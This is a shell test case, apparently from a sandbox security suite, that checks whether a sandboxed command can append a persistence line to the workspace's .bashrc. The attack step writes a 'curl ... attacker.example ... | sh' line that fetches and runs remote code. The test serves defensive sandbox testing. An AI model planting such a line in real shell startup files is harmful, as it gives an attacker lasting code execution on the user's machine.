# persist_bashrc: persistence. The command appends a line to .bashrc in the workspace (when the
# workspace is, or contains, a home directory, every later interactive shell of the user runs
# it, unsandboxed).
# Defence: none yet. Protected paths (issue 8: files under an rw bind the command may not write,
# such as .bashrc, .git/hooks, .git/config) are not implemented; until they are, this case
# reports not-protected-yet (a known gap, not counted as a failure). Once the write is refused,
# it reports blocked.
# Control: the same write to an ordinary file of the workspace succeeds inside the sandbox (so a
# refusal would be specific to the protected path).

setup() {
	MARK="persist-$(unique)"
	mkdir -p .git/hooks
	printf '[core]\n\trepositoryformatversion = 0\n' >.git/config
	: >.bashrc
}

control() {
	ab shell -- sh -c 'echo "$1" >> ordinary.txt' sh "$MARK"
	grep -q "$MARK" ordinary.txt 2>/dev/null || control_failed "the workspace is not writable" "$(evidence)"
	control_ok "the command writes an ordinary file of the workspace"
}

attack() {
	ab shell -- sh -c 'echo "curl -s https://attacker.example/x | sh # $1" >> .bashrc' sh "$MARK"
	if grep -q "$MARK" .bashrc; then
		gap "protected paths (issue 8): the command wrote .bashrc in the workspace" "$(evidence)"
	fi
	[ "$RC" != 0 ] || escaped "the write reported success but .bashrc is unchanged" "$(evidence)"
	case "$ERR" in *"Read-only file system"* | *"Permission denied"* | *"Operation not permitted"*) ;;
	*) escaped "no proof the write was refused" "$(evidence)" ;;
	esac
	blocked "writing .bashrc was refused: $(evidence)"
}
